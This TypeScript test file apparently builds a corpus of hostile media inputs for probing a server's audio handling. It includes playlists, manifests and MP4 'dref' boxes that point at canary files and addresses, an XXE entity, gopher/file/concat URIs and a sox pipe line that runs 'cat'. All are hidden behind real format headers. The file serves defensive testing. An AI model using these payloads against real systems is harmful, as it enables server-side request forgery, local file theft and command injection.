import { waveFile } from "../../../server/shape/testing/wave-file.ts";
import type { Base, Canaries, Hostile } from "./corpus.ts";
import { insertInBox } from "./mp4-boxes.ts";

/** Texts that name other files and addresses, in every language that some player follows. */
function texts({ audio, text, address }: Canaries): Record<string, string> {
  const hls = (...uris: string[]) =>
    `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:10\n${uris.map((uri) => `#EXTINF:10,\n${uri}\n`).join("")}#EXT-X-ENDLIST\n`;
  const http = `http://${address}/canary.wav`;
  return {
    ffconcat: `ffconcat version 1.0\nfile '${audio}'\n`,
    "ffconcat, address": `ffconcat version 1.0\nfile '${http}'\n`,
    "ffconcat, relative": `ffconcat version 1.0\nfile ../../../../../../../..${audio}\nduration 5\n`,
    "HLS, file": hls(`file://${audio}`, `file:${text}`, audio),
    "HLS, address": hls(http, `//${address}/b`, `tcp://${address}`, `udp://${address}`),
    "HLS, protocols": hls(
      ...[`concat:${audio}|${text}`, `subfile,,start,0,end,0,,:${text}`, `crypto+file://${text}`],
      ...[
        `data:audio/x-wav;base64,UklGRg==`,
        `cache:${http}`,
        `gopher://${address}/_x`,
        `async:file:${text}`,
      ],
    ),
    "HLS, key and map": `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${http}"\n#EXT-X-MAP:URI="file://${audio}"\n#EXTINF:1,\nfile://${audio}\n#EXT-X-ENDLIST\n`,
    DASH: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1"><BaseURL>${http}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    SDP: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 ${address.split(":")[0]}\nt=0 0\nm=audio ${address.split(":")[1]} RTP/AVP 0\n`,
    SMIL: `<smil><body><audio src="${http}"/><audio src="file://${audio}"/></body></smil>`,
    XSPF: `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>file://${audio}</location></track></trackList></playlist>`,
    XXE: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://${text}">]><a>&x;</a>`,
    M3U: `#EXTM3U\n${audio}\n${http}\n`,
    PLS: `[playlist]\nFile1=${http}\nFile2=file://${audio}\nNumberOfEntries=2\n`,
    ASX: `<asx version="3.0"><entry><ref href="${http}"/></entry></asx>`,
    "sox's pipe": `|cat ${text} ${audio}\n`,
    "image sequence": `${audio.replace(/[^/]+$/, "")}%d.wav\n`,
    ffmetadata: `;FFMETADATA1\ntitle=@${text}\n[CHAPTER]\nSTART=0\nEND=file:${audio}\n`,
    "Windows shortcut": `[InternetShortcut]\nURL=file://${address}/share/x.wav\nIconFile=\\\\${address}\\x\n`,
    "a path": `${audio}`,
    "an address": `${http}`,
    RTSP: `RTSPtext\nrtsp://${address}/x\n`,
    "vobsub and cue": `FILE "${audio}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
  };
}

/** Beginnings of real formats, behind which a text may hide. */
const beginnings: Record<string, (text: string) => Buffer> = {
  bare: (text) => Buffer.from(text, "latin1"),
  "byte order mark": (text) => Buffer.from(`\xef\xbb\xbf\n\n  ${text}`, "latin1"),
  ID3: (text) => Buffer.from(`ID3\x03\0\0\0\0\0\0${text}`, "latin1"),
  OggS: (text) => Buffer.from(`OggS${text}`, "latin1"),
  M4A: (text) => Buffer.from(`\0\0\0\x14ftypM4A \0\0\0\0${text}`, "latin1"),
  FLAC: (text) => Buffer.from(`fLaC${text}`, "latin1"),
  WebM: (text) => Buffer.from(`\x1a\x45\xdf\xa3${text}`, "latin1"),
  AMR: (text) => Buffer.from(`#!AMR\n${text}`, "latin1"),
  AU: (text) => Buffer.from(`.snd${text}`, "latin1"),
  CAF: (text) => Buffer.from(`caff\0\x01\0\0${text}`, "latin1"),
  AIFF: (text) => Buffer.from(`FORM\0\0\xff\xffAIFF${text}`, "latin1"),
  ASF: (text) => Buffer.from(`\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\0\xaa\0\x62\xce\x6c${text}`, "latin1"),
  "MP3 in WAV": (text) => waveFile({ data: Buffer.from(text, "latin1"), tag: 0x55 }),
};

/** Movies whose samples lie in another file, as QuickTime allows (`dref`). */
function movies({ audio, text, address }: Canaries, bases: readonly Base[]): Hostile[] {
  const whole = bases.find(({ name }) => name === "talk.m4a")?.bytes;
  if (whole === undefined) throw new Error("no M4A");
  const url = (type: string, body: string) => {
    const content = Buffer.from(`\0\0\0\0${body}\0`, "latin1");
    const head = Buffer.from(`\0\0\0\0${type}`, "latin1");
    head.writeUInt32BE(content.length + 8);
    return Buffer.concat([head, content]);
  };
  return Object.entries({
    "path in url": url("url ", `file://${audio}`),
    "address in url": url("url ", `http://${address}/canary.wav`),
    "bare path in url": url("url ", text),
    "name in urn": url("urn ", `x\0file://${audio}`),
    "alias record": url(
      "alis",
      `\0\0\0\0\0\x96\0\x02${"\0".repeat(146)}\0\x02\0${String.fromCharCode(audio.length)}${audio}\xff\xff`,
    ),
    resource: url("rsrc", audio),
  }).map(([name, entry]) => ({
    ...{ name: `M4A, its samples elsewhere: ${name}`, kind: "reference" as const },
    make: () => insertInBox(whole, ["moov", "trak", "mdia", "minf", "dinf", "dref"], entry),
  }));
}

/** Every text behind every beginning, and movies that point elsewhere. */
export function makeReferences(canaries: Canaries, bases: readonly Base[]): Hostile[] {
  return [
    ...Object.entries(texts(canaries)).flatMap(([what, text]) =>
      Object.entries(beginnings).map(([behind, wrap]) => ({
        ...{ name: `${what}, behind ${behind}`, kind: "reference" as const },
        make: () => wrap(text),
      })),
    ),
    ...movies(canaries, bases),
  ];
}
